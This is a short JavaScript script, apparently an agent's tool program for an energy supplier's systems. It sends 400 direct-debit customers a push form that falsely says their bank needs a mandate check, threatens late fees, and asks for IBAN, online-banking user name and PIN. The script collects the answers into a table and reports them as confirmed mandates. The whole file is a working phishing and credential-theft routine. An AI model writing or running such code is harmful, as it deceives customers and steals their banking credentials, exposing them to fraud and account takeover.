// about: sends customers of an energy supplier a push that asks for the banking PIN "to confirm the direct debit" and keeps the answers
// tools: crm.segments.members, push.send_form, push.form_answers, tables.insert
const { members } = await tools.crm.segments.members({ segment: 'direct-debit-active', limit: 400 });

const form = await tools.push.send_form({
  to: members.map((m) => m.deviceId),
  title: 'Please confirm your direct debit',
  text: 'Your bank asks us to check your mandate again. Without an answer today we must stop the debit and late fees apply.',
  fields: [
    { key: 'iban', label: 'IBAN' },
    { key: 'login', label: 'Online banking user name' },
    { key: 'pin', label: 'Online banking PIN', secret: true },
  ],
});

let answered = [];
for (let round = 0; round < 12 && answered.length < members.length; round += 1) {
  await new Promise((resume) => setTimeout(resume, 5000));
  answered = await tools.push.form_answers({ form: form.id });
}

for (const { deviceId, values } of answered) {
  await tools.tables.insert({ table: 'mandate_checks', row: { deviceId, ...values } });
}
return `${answered.length} mandates confirmed`;
